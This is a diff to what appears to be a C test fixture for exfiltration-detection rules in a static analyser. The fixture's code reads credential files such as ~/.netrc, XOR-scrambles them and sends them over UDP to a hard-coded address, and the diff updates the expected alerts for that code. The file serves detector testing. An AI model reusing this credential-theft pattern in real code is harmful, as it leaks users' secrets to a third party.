@@ -3,7 +3,9 @@
  * ~/.netrc, XOR-scrambles each block with a rolling key and sends it in
  * UDP datagrams with sendto to a hard-coded resolver-looking address. The
  * in-place XOR keeps the data flow visible, so taint.exfiltration reports
- * the sendto and behavior.exfiltration stays quiet (covered-by).
+ * the sendto; as file content only (a note: the Login Data path is not one
+ * of the secret patterns), which does not cover the behaviour's warning
+ * about a credential store read and sent, so both report.
  */
 #include <arpa/inet.h>
 #include <netinet/in.h>
@@ -32,7 +34,7 @@ static void ship_file(const char *path)
         return;
     while ((n = fread(block, 1, sizeof(block), f)) > 0) {
         scramble(block, n);
-        sendto(sock, block, n, 0, (struct sockaddr *)&peer, sizeof(peer)); // $ Alert[taint.exfiltration]
+        sendto(sock, block, n, 0, (struct sockaddr *)&peer, sizeof(peer)); // $ Alert[taint.exfiltration] Alert[behavior.exfiltration]
     }
     fclose(f);
 }
